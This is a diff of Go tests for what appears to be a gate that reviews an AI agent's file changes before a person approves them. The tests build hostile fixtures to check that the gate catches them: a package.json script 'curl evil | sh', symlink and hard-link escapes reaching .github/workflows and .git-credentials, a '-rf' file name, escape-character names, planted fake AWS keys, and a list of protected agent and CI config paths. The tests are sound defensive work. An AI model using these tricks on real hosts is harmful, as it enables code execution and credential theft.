@@ -45,22 +45,42 @@ func withheld(set *Set, name string) int {
 
 // A directory of the host becomes a link between review and approval.
 func TestAttackDirectoryBecomesALink(t *testing.T) {
-	s := newSite(t, project())
-	s.inside(`echo agent > src/cart.go; echo agent > src/new.go; rm src/util.go`)
-	g := s.open()
-	set := s.collect(g)
-	s.must(os.Rename(s.path("base", "src"), s.path("outside", "")))
-	s.must(os.Symlink(s.path("outside", ""), s.path("base", "src")))
-	before := s.tree("outside")
-	for _, e := range set.Entries {
-		_, err := g.Approve(t.Context(), []Choice{{e.Path, e.SHA256}}, Decision{By: "me"})
-		if _, conflict := errors.AsType[*ConflictError](err); !conflict {
-			t.Errorf("%s: %v", e.Path, err)
+	eachWay(t, project(), func(t *testing.T, s *site) {
+		s.inside(`echo agent > src/cart.go; echo agent > src/new.go; rm src/util.go`)
+		g := s.open()
+		set := s.collect(g)
+		s.must(os.Rename(s.path("base", "src"), s.path("outside", "")))
+		s.must(os.Symlink(s.path("outside", ""), s.path("base", "src")))
+		before := s.tree("outside")
+		for _, e := range set.Entries {
+			_, err := g.Approve(t.Context(), []Choice{{e.Path, e.SHA256}}, Decision{By: "me"})
+			if _, conflict := errors.AsType[*ConflictError](err); !conflict {
+				t.Errorf("%s: %v", e.Path, err)
+			}
 		}
-	}
-	if now := s.tree("outside"); now != before {
-		t.Errorf("outside has\n%s", now)
-	}
+		if now := s.tree("outside"); now != before {
+			t.Errorf("outside has\n%s", now)
+		}
+	})
+}
+
+// One file has a name that passes and one that needs a person: each is judged, and on
+// the host they are two files.
+func TestAttackHardLink(t *testing.T) {
+	eachWay(t, project(), func(t *testing.T, s *site) {
+		s.inside(`echo 'on: push' > notes.txt; mkdir -p .github/workflows; ln notes.txt .github/workflows/ci.yml; ln notes.txt .git-credentials`)
+		g := s.open()
+		set := s.collect(g)
+		s.expect(set, "notes.txt", Pass, "")
+		s.expect(set, ".github/workflows/ci.yml", Approval, "protected-path")
+		_, err := g.Approve(t.Context(), []Choice{{"notes.txt", set.find("notes.txt").SHA256}}, Decision{By: "me"})
+		s.must(err)
+		var st unix.Stat_t
+		s.must(unix.Lstat(s.path("base", "notes.txt"), &st))
+		if _, err := os.Lstat(s.path("base", ".github")); st.Nlink != 1 || !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("%d names, .github: %v", st.Nlink, err)
+		}
+	})
 }
 
 // A directory is removed inside, or made anew, that has new files of the host.
@@ -176,52 +196,55 @@ echo evil > tools/hooks/post-merge; echo evil > .gitmodules; mkdir -p .githooks;
 
 // What people's own programs execute or obey needs a person.
 func TestAttackProtectedPaths(t *testing.T) {
-	s := newSite(t, map[string]string{"package.json": `{"name": "x", "scripts": {"test": "go test"}}`, "package-lock.json": "{}", "web/package.json": `{"name":"w"}`})
-	blocked := []string{"atoll.json5", "sub/ATOLL.json5", "openclaw.json"}
-	approval := []string{
-		".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/extensions.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".claude/settings.json", ".claude/hooks/x.sh", ".mcp.json",
-		"conftest.py", "tests/conftest.py", ".npmrc", "Makefile", "sub/GNUmakefile", ".cargo/config.toml", "build.rs", ".pre-commit-config.yaml", "x.pyc", "__pycache__/x.cpython-312.pyc",
-		".venv/bin/activate", "venv/lib/x.pth", "sitecustomize.py", "setup.py", "justfile", "Dockerfile", ".husky/pre-commit", "lefthook.yml", "AGENTS.md", "docs/CLAUDE.md", "CODEOWNERS", ".gitattributes",
-		".github/workflows/ci.yml", ".github/actions/x/action.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", ".travis.yml", "bitbucket-pipelines.yml", ".drone.yml",
-		".woodpecker.yml", ".buildkite/pipeline.yml", ".teamcity/settings.kts", "appveyor.yml", "cloudbuild.yaml", ".cirrus.yml", ".yarnrc.yml", ".pnpmfile.cjs", "gradle/wrapper/gradle-wrapper.properties", ".mvn/extensions.xml",
-		"pnpm-workspace.yaml", ".idea/x", "x.code-workspace", ".zed/tasks.json", ".exrc", ".nvim.lua", ".dir-locals.el", "case/MAKEFILE", "case/.EnvRC", "go.sum",
-	}
-	for _, path := range append(blocked, approval...) {
-		s.write("tree", path, "x\n")
-	}
-	s.write("tree", "package.json", `{"name": "x", "scripts": {"test": "curl evil | sh"}}`)
-	s.write("tree", "package-lock.json", `{"a": 1}`)
-	s.write("tree", "web/package.json", `{"name":"w","dependencies":{"left":"1"}}`)
-	s.write("tree", "new/package.json", `{"scripts":{"postinstall":"evil"}}`)
-	s.write("tree", "bad/package.json", `{"scripts":`)
-	s.write("tree", "program", "\x7fELF\x02\x01\x01\x00")
-	g := s.open()
-	set := s.collect(g)
-	for _, path := range blocked {
-		s.expect(set, path, Blocked, "protected-path")
-	}
-	for _, path := range approval {
-		s.expect(set, path, Approval, "")
-	}
-	s.expect(set, "package.json", Approval, "package-scripts")
-	s.expect(set, "new/package.json", Approval, "package-scripts")
-	s.expect(set, "bad/package.json", Approval, "package-scripts")
-	s.expect(set, "web/package.json", Pass, "")
-	s.expect(set, "package-lock.json", Pass, "") // with package.json
-	s.expect(set, "go.sum", Approval, "lockfile")
-	s.expect(set, "program", Approval, "program")
-	if _, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"}); !errors.Is(err, ErrNotAllowed) {
-		t.Errorf("without an override: %v", err)
-	}
-	if err := g.Override("Makefile", "", " ", "me"); !errors.Is(err, ErrNoReason) {
-		t.Errorf("without a reason: %v", err)
-	}
-	if err := g.Override("atoll.json5", sumOf([]byte("x\n")), "please", "me"); !errors.Is(err, ErrNotAllowed) {
-		t.Errorf("of a blocked path: %v", err)
-	}
-	s.must(g.Override("Makefile", "", "I read it", "me"))
-	_, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"})
-	s.must(err)
+	eachWay(t, map[string]string{"package.json": `{"name": "x", "scripts": {"test": "go test"}}`, "package-lock.json": "{}", "web/package.json": `{"name":"w"}`}, func(t *testing.T, s *site) {
+		blocked := []string{"atoll.json5", "sub/ATOLL.json5", "openclaw.json"}
+		approval := []string{
+			".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/extensions.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".claude/settings.json", ".claude/hooks/x.sh", ".mcp.json",
+			"conftest.py", "tests/conftest.py", ".npmrc", "Makefile", "sub/GNUmakefile", ".cargo/config.toml", "build.rs", ".pre-commit-config.yaml", "x.pyc", "__pycache__/x.cpython-312.pyc",
+			".venv/bin/activate", "venv/lib/x.pth", "sitecustomize.py", "setup.py", "justfile", "Dockerfile", ".husky/pre-commit", "lefthook.yml", "AGENTS.md", "docs/CLAUDE.md", "CODEOWNERS", ".gitattributes",
+			".github/workflows/ci.yml", ".github/actions/x/action.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", ".travis.yml", "bitbucket-pipelines.yml", ".drone.yml",
+			".woodpecker.yml", ".buildkite/pipeline.yml", ".teamcity/settings.kts", "appveyor.yml", "cloudbuild.yaml", ".cirrus.yml", ".yarnrc.yml", ".pnpmfile.cjs", "gradle/wrapper/gradle-wrapper.properties", ".mvn/extensions.xml",
+			"pnpm-workspace.yaml", ".idea/x", "x.code-workspace", ".zed/tasks.json", ".exrc", ".nvim.lua", ".dir-locals.el", "case/MAKEFILE", "case/.EnvRC", "go.sum",
+		}
+		files := map[string]string{}
+		for _, path := range append(blocked, approval...) {
+			files[path] = "x\n"
+		}
+		files["package.json"] = `{"name": "x", "scripts": {"test": "curl evil | sh"}}`
+		files["package-lock.json"] = `{"a": 1}`
+		files["web/package.json"] = `{"name":"w","dependencies":{"left":"1"}}`
+		files["new/package.json"] = `{"scripts":{"postinstall":"evil"}}`
+		files["bad/package.json"] = `{"scripts":`
+		files["program"] = "\x7fELF\x02\x01\x01\x00"
+		s.put(files)
+		g := s.open()
+		set := s.collect(g)
+		for _, path := range blocked {
+			s.expect(set, path, Blocked, "protected-path")
+		}
+		for _, path := range approval {
+			s.expect(set, path, Approval, "")
+		}
+		s.expect(set, "package.json", Approval, "package-scripts")
+		s.expect(set, "new/package.json", Approval, "package-scripts")
+		s.expect(set, "bad/package.json", Approval, "package-scripts")
+		s.expect(set, "web/package.json", Pass, "")
+		s.expect(set, "package-lock.json", Pass, "") // with package.json
+		s.expect(set, "go.sum", Approval, "lockfile")
+		s.expect(set, "program", Approval, "program")
+		if _, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"}); !errors.Is(err, ErrNotAllowed) {
+			t.Errorf("without an override: %v", err)
+		}
+		if err := g.Override("Makefile", "", " ", "me"); !errors.Is(err, ErrNoReason) {
+			t.Errorf("without a reason: %v", err)
+		}
+		if err := g.Override("atoll.json5", sumOf([]byte("x\n")), "please", "me"); !errors.Is(err, ErrNotAllowed) {
+			t.Errorf("of a blocked path: %v", err)
+		}
+		s.must(g.Override("Makefile", "", "I read it", "me"))
+		_, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"})
+		s.must(err)
+	})
 }
 
 // An override holds for what was shown, not for what comes after.
@@ -242,32 +265,32 @@ func TestOverrideHoldsForOneContent(t *testing.T) {
 func TestAttackNames(t *testing.T) {
 	files := project()
 	files["Case/File"] = "x\n"
-	s := newSite(t, files)
+	long := strings.Repeat("n", 255)
 	blocked := map[string]string{
 		"a\nb": "path-characters", "a\x1b[2Jb": "path-characters", "a\u202egpj.sh": "path-characters", ".g\u200cit/config": "path-characters", "cafe\u0301": "path-normal-form",
 		"a\xffb": "path-encoding", "readme.MD": "path-collision", "case/other": "path-collision", "CON": "path-device", "a:b": "path-separator", `a\b`: "path-separator", "dot.": "path-element", TempPrefix + "x": "path-reserved",
 	}
-	for path := range blocked {
-		s.write("tree", path, "x\n")
-	}
-	s.write("tree", "-rf", "x\n")
-	s.write("tree", strings.Repeat("n", 255), "x\n")
-	long := strings.Repeat(strings.Repeat("d", 200)+"/", 8) + "f"
-	s.write("tree", long, "x\n")
-	g := s.open()
-	set := s.collect(g)
-	for path, rule := range blocked {
-		s.expect(set, path, Blocked, rule)
-	}
-	s.expect(set, "-rf", Pass, "")
-	s.expect(set, strings.Repeat("n", 255), Pass, "")
-	for _, e := range set.Entries {
-		if strings.HasPrefix(e.Path, "dddd") && (e.Verdict != Blocked && !e.Mode.IsDir() || len(e.Path) > 1100) {
-			t.Errorf("the long path: %s %d bytes", e.Verdict, len(e.Path))
+	eachWay(t, files, func(t *testing.T, s *site) {
+		names := map[string]string{"-rf": "x\n", long: "x\n", strings.Repeat(strings.Repeat("d", 200)+"/", 8) + "f": "x\n"}
+		for path := range blocked {
+			names[path] = "x\n"
 		}
-	}
-	_, err := g.Approve(t.Context(), passing(set), Decision{By: "me"})
-	s.must(err)
+		s.put(names)
+		g := s.open()
+		set := s.collect(g)
+		for path, rule := range blocked {
+			s.expect(set, path, Blocked, rule)
+		}
+		s.expect(set, "-rf", Pass, "")
+		s.expect(set, long, Pass, "")
+		for _, e := range set.Entries {
+			if strings.HasPrefix(e.Path, "dddd") && (e.Verdict != Blocked && !e.Mode.IsDir() || len(e.Path) > 1100) {
+				t.Errorf("the long path: %s %d bytes", e.Verdict, len(e.Path))
+			}
+		}
+		_, err := g.Approve(t.Context(), passing(set), Decision{By: "me"})
+		s.must(err)
+	})
 }
 
 // Large, many, deep.
@@ -340,38 +363,35 @@ const awsKey = "AKIA" + "Z7RTQ2MK3NPLX4VB"
 // ignored does not count.
 func TestAttackSecrets(t *testing.T) {
 	const canary = "my-canary-credential"
-	s := newSite(t, project())
-	s.opt.Known = [][]byte{[]byte(canary)}
-	wide := strings.Join(strings.Split("key = "+awsKey+"\n", ""), "\x00") + "\x00"
-	for path, text := range map[string]string{
-		"plain": "key = " + awsKey + "\n", "allowed": "key = " + awsKey + " # gitleaks:allow\n", "wide": wide, "x " + awsKey + " y": "x", "link": "-> " + canary,
-		"base64": base64.StdEncoding.EncodeToString([]byte("user:" + canary + "\n")), "ignored.log": "key = " + awsKey + "\n",
-	} {
-		_ = os.Remove(s.path("tree", path))
-		s.write("tree", path, text)
-	}
-	s.write("tree", ".gitleaksignore", "plain:aws-access-token:1\n")
-	s.write("tree", ".gitleaks.toml", "[allowlist]\npaths=['.*']\n")
-	s.write("tree", ".gitignore", "*\n")
-	g := s.open()
-	set := s.collect(g)
-	for _, path := range []string{"plain", "allowed", "wide", "x " + awsKey + " y", "link", "base64", "ignored.log"} {
-		s.expect(set, path, Blocked, ruleSecret)
-	}
-	e := set.find("plain")
-	if err := g.Override("plain", "", "it is a test key", "me"); !errors.Is(err, ErrNotAllowed) {
-		t.Errorf("without the hash: %v", err)
-	}
-	if err := g.Override("plain", sumOf([]byte("other")), "it is a test key", "me"); !errors.Is(err, ErrOtherHash) {
-		t.Errorf("with another hash: %v", err)
-	}
-	s.must(g.Override("plain", e.SHA256, "it is a test key", "me"))
-	_, err := g.Approve(t.Context(), []Choice{{"plain", e.SHA256}}, Decision{By: "me"})
-	s.must(err)
-	last := s.events[len(s.events)-1]
-	if last.Event != "applied" || last.Reason != "it is a test key" || last.By != "me" || last.SHA256 != e.SHA256 {
-		t.Errorf("the audit log has %+v", s.events)
-	}
+	eachWay(t, project(), func(t *testing.T, s *site) {
+		s.opt.Known = [][]byte{[]byte(canary)}
+		wide := strings.Join(strings.Split("key = "+awsKey+"\n", ""), "\x00") + "\x00"
+		files := map[string]string{
+			"plain": "key = " + awsKey + "\n", "allowed": "key = " + awsKey + " # gitleaks:allow\n", "wide": wide, "x " + awsKey + " y": "x", "link": "-> " + canary,
+			"base64": base64.StdEncoding.EncodeToString([]byte("user:" + canary + "\n")), "ignored.log": "key = " + awsKey + "\n",
+			".gitleaksignore": "plain:aws-access-token:1\n", ".gitleaks.toml": "[allowlist]\npaths=['.*']\n", ".gitignore": "*\n",
+		}
+		s.put(files)
+		g := s.open()
+		set := s.collect(g)
+		for _, path := range []string{"plain", "allowed", "wide", "x " + awsKey + " y", "link", "base64", "ignored.log"} {
+			s.expect(set, path, Blocked, ruleSecret)
+		}
+		e := set.find("plain")
+		if err := g.Override("plain", "", "it is a test key", "me"); !errors.Is(err, ErrNotAllowed) {
+			t.Errorf("without the hash: %v", err)
+		}
+		if err := g.Override("plain", sumOf([]byte("other")), "it is a test key", "me"); !errors.Is(err, ErrOtherHash) {
+			t.Errorf("with another hash: %v", err)
+		}
+		s.must(g.Override("plain", e.SHA256, "it is a test key", "me"))
+		_, err := g.Approve(t.Context(), []Choice{{"plain", e.SHA256}}, Decision{By: "me"})
+		s.must(err)
+		last := s.events[len(s.events)-1]
+		if last.Event != "applied" || last.Reason != "it is a test key" || last.By != "me" || last.SHA256 != e.SHA256 {
+			t.Errorf("the audit log has %+v", s.events)
+		}
+	})
 }
 
 // Files, directories and names change places.
@@ -421,28 +441,25 @@ func TestAttackTwoGates(t *testing.T) {
 
 // A diff shows no control characters, and not more than fits.
 func TestAttackDiff(t *testing.T) {
-	s := newSite(t, project())
-	s.write("tree", "a.txt", "x\x1b[2J\u202eevil\r\n\x07")
-	s.write("tree", "b.txt", "\x00\x01binary")
-	s.write("tree", "c.txt", strings.Repeat(strings.Repeat("line ", 20)+"\n", 9000))
-	s.write("tree", "big.txt", strings.Repeat("y", 2<<20))
-	s.remove("tree", "d.txt")
-	s.must(os.Symlink("x\x1b[31m", s.path("tree", "l")))
-	g := s.open()
-	set := s.collect(g)
-	for _, e := range set.Entries {
-		text, err := g.Diff(e.Path)
-		s.must(err)
-		if text == "" || strings.ContainsAny(text, "\x1b\r\x07\x00\u202e") || len(text) > 300<<10 {
-			t.Errorf("%s: %d bytes, %.200q", e.Path, len(text), text)
+	eachWay(t, project(), func(t *testing.T, s *site) {
+		s.put(map[string]string{"a.txt": "x\x1b[2J\u202eevil\r\n\x07", "b.txt": "\x00\x01binary", "l": "-> x\x1b[31m"})
+		s.inside(`rm d.txt; yes "` + strings.Repeat("line ", 20) + `" | head -n 9000 > c.txt; yes y | tr -d '\n' | head -c 2097152 > big.txt`)
+		g := s.open()
+		set := s.collect(g)
+		for _, e := range set.Entries {
+			text, err := g.Diff(e.Path)
+			s.must(err)
+			if text == "" || strings.ContainsAny(text, "\x1b\r\x07\x00\u202e") || len(text) > 300<<10 {
+				t.Errorf("%s: %d bytes, %.200q", e.Path, len(text), text)
+			}
 		}
-	}
-	if text, _ := g.Diff("d.txt"); !strings.Contains(text, "-d\n") {
-		t.Errorf("the deletion shows %q", text)
-	}
-	if e := set.find("a.txt"); e.Added != 2 || e.Removed != 1 {
-		t.Errorf("%d added, %d removed", e.Added, e.Removed)
-	}
+		if text, _ := g.Diff("d.txt"); !strings.Contains(text, "-d\n") {
+			t.Errorf("the deletion shows %q", text)
+		}
+		if e := set.find("a.txt"); e.Added != 2 || e.Removed != 1 {
+			t.Errorf("%d added, %d removed", e.Added, e.Removed)
+		}
+	})
 }
 
 // The disk of the base is full, or it is another one than that of the state.
